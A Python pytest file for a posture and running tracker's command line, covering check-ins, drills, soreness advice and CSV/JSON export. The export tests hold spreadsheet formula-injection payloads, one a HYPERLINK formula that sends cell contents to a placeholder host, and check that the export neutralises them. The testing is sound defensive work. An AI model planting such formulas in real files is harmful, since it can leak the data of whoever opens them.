"""Recording and reading back through the command line, as a user or a script would."""

from __future__ import annotations

import csv
import io
import sqlite3
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from posture_agent.commands.admin import FORMULA_STARTS, csv_cell, csv_text
from tests.conftest import Cli
from tests.processes import rows


def test_checkin_round_trip_in_local_time(cli: Cli) -> None:
    out = cli.ok("--json", "checkin", "slouched", "--context", "sofa", "--at", "2026-11-24T21:15").json()
    assert isinstance(out, dict)
    assert out["posture"] == "slouched" and out["context"] == "sofa"
    # 21:15 in Berlin in November is 20:15 UTC
    assert out["at"] == "2026-11-24T20:15:00+00:00"
    assert out["local"] == "2026-11-24T21:15:00+01:00"
    records = cli.ok("export", "--format", "json").json()
    assert isinstance(records, dict)
    [row] = records["records"]
    assert row["type"] == "checkin" and row["posture"] == "slouched"


def test_at_with_offset_is_kept_exactly(cli: Cli) -> None:
    out: Any = cli.ok("checkin", "upright", "--at", "2026-11-24T08:00-05:00", "--json").json()
    assert out["at"] == "2026-11-24T13:00:00+00:00"


def test_drills_ticked_show_as_done_for_that_local_day(cli: Cli) -> None:
    before: Any = cli.ok("drills", "--json").json()
    assert before["date"] == "2026-11-25"
    assert [d["name"] for d in before["drills"]] == ["wall-alignment", "chin-tuck"]
    assert not any(d["done"] for d in before["drills"])
    cli.ok("drill", "done", "wall-alignment", "--at", "2026-11-25T07:35")
    # 00:30 Berlin on the 25th is still the 24th in UTC: it belongs to the local day, the 25th
    cli.ok("drill", "done", "chin-tuck", "--at", "2026-11-25T00:30")
    after: Any = cli.ok("drills", "--json").json()
    assert after["all_done"] is True
    yesterday: Any = cli.ok("drills", "--date", "2026-11-24", "--json").json()
    assert not any(d["done"] for d in yesterday["drills"])
    text = cli.ok("drills").out
    assert "[x] wall-alignment" in text and "All done" in text


def test_circuit_defaults_to_two_rounds(cli: Cli) -> None:
    out: Any = cli.ok("circuit", "done", "--json").json()
    assert out["rounds"] == 2
    out = cli.ok("circuit", "done", "--rounds", "1", "--at", "2026-11-24T18:30", "--json").json()
    assert out["rounds"] == 1


def test_run_add_and_list(cli: Cli) -> None:
    added: Any = cli.ok("run", "add", "--distance-km", "21.1", "--duration", "1:52:30", "--at",
                        "2026-11-22T09:00", "--json").json()
    assert added["distance_km"] == 21.1 and added["duration_s"] == 6750
    assert added["end"] == "2026-11-22T09:52:30+00:00"
    assert added["pace_s_per_km"] == round(6750 / 21.1, 1)
    listed: Any = cli.ok("run", "list", "--json").json()
    assert [r["id"] for r in listed["runs"]] == [added["id"]]
    assert added["id"][:8] in cli.ok("run", "list").out


def test_soreness_links_to_the_run_that_just_ended_and_advises_rest(cli: Cli) -> None:
    run: Any = cli.ok("run", "add", "--distance-km", "18", "--duration", "1:40:00", "--at",
                      "2026-11-25T08:00", "--json").json()
    report: Any = cli.ok("soreness", "--upper-back", "5", "--mid-back", "2", "--form", "arms-high",
                         "--json").json()
    assert report["run_id"] == run["id"]
    assert report["form"] == ["arms_high"]
    assert report["advice"]["rest_days"] == ["2026-11-26"]
    assert report["advice"]["running_ok"] is True
    assert any("not medical advice" in m for m in report["advice"]["messages"])


def test_si_protocol_started_warned_and_ended_early(cli: Cli) -> None:
    cli.ok("soreness", "--si-joint", "6", "--at", "2026-11-20T10:00")
    advice: Any = cli.ok("advice", "--json").json()
    protocol = advice["si_protocol"]
    assert protocol["day"] == 6 and protocol["of_days"] == 15
    # 14 days from the report run out on Fri 4 Dec: running again on Sat 5 Dec
    assert protocol["ends"] == "2026-12-04T23:00:00+00:00" and protocol["running_again"] == "2026-12-05"
    assert protocol["ice_times"] == ["12:30", "20:30"]
    assert advice["running_ok"] is False
    assert any("pharmacist or doctor" in m for m in advice["messages"])
    warned = cli.ok("run", "add", "--distance-km", "5", "--duration", "30:00", "--at", "2026-11-25T07:00")
    assert "SI-joint protocol" in warned.err and "SI-joint protocol" not in warned.out
    assert len(cli.ok("run", "list", "--json").json()["runs"]) == 1  # type: ignore[index]
    cli.ok("advice", "--end-protocol")
    assert cli.ok("advice", "--json").json()["si_protocol"] is None  # type: ignore[index]
    again = cli("advice", "--end-protocol")
    assert again.code != 0 and "no SI-joint protocol" in again.err


def test_pelvic_tilts_join_the_drills_for_fourteen_days(cli: Cli) -> None:
    cli.ok("soreness", "--lower-back", "4", "--at", "2026-11-20T19:00")
    that_day: Any = cli.ok("drills", "--date", "2026-11-20", "--json").json()
    assert "pelvic-tilt" not in [d["name"] for d in that_day["drills"]]  # they join the next day
    today: Any = cli.ok("drills", "--json").json()
    assert "pelvic-tilt" in [d["name"] for d in today["drills"]]
    last: Any = cli.ok("drills", "--date", "2026-12-04", "--json").json()
    after: Any = cli.ok("drills", "--date", "2026-12-05", "--json").json()
    assert "pelvic-tilt" in [d["name"] for d in last["drills"]]
    assert "pelvic-tilt" not in [d["name"] for d in after["drills"]]
    assert cli.ok("advice", "--json").json()["pelvic_tilts_until"] == "2026-12-04"  # type: ignore[index]


def test_export_csv_has_every_record(cli: Cli) -> None:
    cli.ok("checkin", "standing")
    cli.ok("drill", "done", "chin-tuck")
    cli.ok("run", "add", "--distance-km", "10", "--duration", "50m", "--at", "2026-11-25T06:00")
    cli.ok("soreness", "--mid-back", "1")
    rows = list(csv.DictReader(io.StringIO(cli.ok("export", "--format", "csv").out)))
    assert sorted(r["type"] for r in rows) == ["checkin", "drill", "run", "soreness"]
    run = next(r for r in rows if r["type"] == "run")
    assert run["distance_km"] == "10.0" and run["duration_s"] == "3000.0"


FORMULAS = ('=HYPERLINK("http://example.invalid/?"&A1,"details")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1", "walk\r=1+1")


def test_export_csv_neutralises_formulas_from_names(cli: Cli) -> None:
    """A sport or drill name that another computer (or an import) wrote like a formula reaches the
    spreadsheet as text: a leading single quote, as OWASP advises; the numbers stay numbers."""
    cli.ok("run", "add", "--distance-km", "10", "--duration", "50m", "--at", "2026-11-25T06:00")
    cli.ok("drill", "done", "chin-tuck")
    conn = sqlite3.connect(cli.home / "data" / "posture-agent.db")
    with conn:
        conn.execute("UPDATE runs SET sport = ?", (FORMULAS[0],))
        for name in FORMULAS[1:]:
            conn.execute("INSERT INTO drill_completions SELECT at, ?, id || ?, created_at, device, source "
                         "FROM drill_completions WHERE drill = 'chin-tuck'", (name, name))
    conn.close()
    out = cli.ok("export", "--format", "csv").out
    records = list(csv.DictReader(io.StringIO(out)))
    run = next(r for r in records if r["type"] == "run")
    assert run["sport"] == "'" + FORMULAS[0]
    assert run["distance_km"] == "10.0" and run["duration_s"] == "3000.0"
    drills = {r["drill"] for r in records if r["type"] == "drill"}
    assert drills == {"chin-tuck", "walk\r=1+1", *("'" + name for name in FORMULAS[1:-1])}
    assert '"walk\r=1+1"' in out, "a carriage return inside a cell is quoted: no new row for a spreadsheet"
    assert out.count("\n") == len(records) + 1, "rows end in a newline alone"
    json_sports = [r["sport"] for r in cli.ok("export", "--format", "json").json()["records"]  # type: ignore[index]
                   if r["type"] == "run"]
    assert json_sports == [FORMULAS[0]], "JSON is data, not a spreadsheet: kept as it is"


@pytest.mark.parametrize(("column", "value", "cell"), [
    ("distance_km", -3.5, -3.5), ("distance_km", "-3.5", "-3.5"), ("upper_back", "-1", "-1"),
    ("distance_km", "-1+2", "'-1+2"), ("sport", "-3.5", "'-3.5"), ("sport", "trail", "trail"),
    ("form", "=1", "'=1"), ("id", "@x", "'@x"), ("at", "2026-11-25T06:00:00+01:00", "2026-11-25T06:00:00+01:00"),
])
def test_a_csv_cell_is_neutralised_only_where_it_could_run(column: str, value: object, cell: object) -> None:
    assert csv_cell(column, value) == cell


@settings(max_examples=300, deadline=None, derandomize=True)
@given(name=st.text(), number=st.floats(allow_nan=False, allow_infinity=False))
def test_no_exported_cell_reads_as_a_formula(name: str, number: float) -> None:
    """Whatever a name holds (line breaks, quotes, a formula after a carriage return), the CSV reads
    back as one row whose text cells start like no formula and whose numbers are untouched."""
    row = {"type": "run", "id": name, "sport": name, "form": name + "\r=1+1", "distance_km": number}
    [read] = list(csv.DictReader(io.StringIO(csv_text([row]), newline="")))
    for column in ("id", "sport", "form"):
        assert read[column] in (row[column], "'" + row[column])
        assert not read[column].startswith(FORMULA_STARTS)
    assert float(read["distance_km"]) == number


def test_every_record_carries_id_time_device_and_source(cli: Cli) -> None:
    cli.ok("checkin", "upright")
    [row] = rows(cli.home, "SELECT id, created_at, device, source FROM checkins")
    assert len(str(row[0])) == 36 and str(row[1]).startswith("2026-11-25 11:00")
    assert ":" in row[2] and row[3] == "cli"


def test_doctor_reports_schema_and_integrity(cli: Cli) -> None:
    cli.ok("checkin", "upright")
    out: Any = cli("doctor", "--json").json()  # exit 1 here: no notification daemon in this test
    database = next(c for c in out["checks"] if c["check"] == "database")
    assert database["ok"] and "schema" in database["detail"] and "integrity ok" in database["detail"]
    config = next(c for c in out["checks"] if c["check"] == "config")
    assert config["ok"]
